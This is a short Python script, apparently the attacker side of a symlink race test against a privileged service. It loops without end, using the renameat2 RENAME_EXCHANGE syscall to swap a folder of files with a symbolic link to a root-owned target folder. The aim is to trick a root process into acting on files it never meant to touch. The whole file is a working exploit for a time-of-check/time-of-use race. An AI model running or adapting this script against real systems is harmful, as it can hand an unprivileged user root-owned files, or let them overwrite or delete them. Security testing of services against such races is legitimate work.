# SPDX-License-Identifier: GPL-3.0-or-later
# The customer's side of the symlink swap: run as a service's user, it keeps
# exchanging FOLDER/d (a folder of files) and FOLDER/s (a symbolic link to
# TARGET, a root-owned folder outside the root) with renameat2(2)
# RENAME_EXCHANGE, and makes them again when they vanish, until killed.
# Usage: swap.py FOLDER TARGET
import ctypes, os, platform, sys, time

SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]
AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
folder, target = sys.argv[1], sys.argv[2]
d, s = os.path.join(folder, "d").encode(), os.path.join(folder, "s").encode()
swaps = 0
while True:
    try:
        if not os.path.lexists(d):
            os.mkdir(d)  # never makedirs: FOLDER itself is not ours to make
            for i in range(20):
                with open(os.path.join(d, b"f%d" % i), "w") as f:
                    f.write("customer\n")
        if not os.path.lexists(s):
            os.symlink(target, s)
    except OSError:
        time.sleep(0.005)
        continue
    if libc.syscall(SYS_RENAMEAT2, AT_FDCWD, d, AT_FDCWD, s, RENAME_EXCHANGE) == 0:
        swaps += 1
        if swaps % 100000 == 0:
            print(f"{swaps} swaps", file=sys.stderr, flush=True)
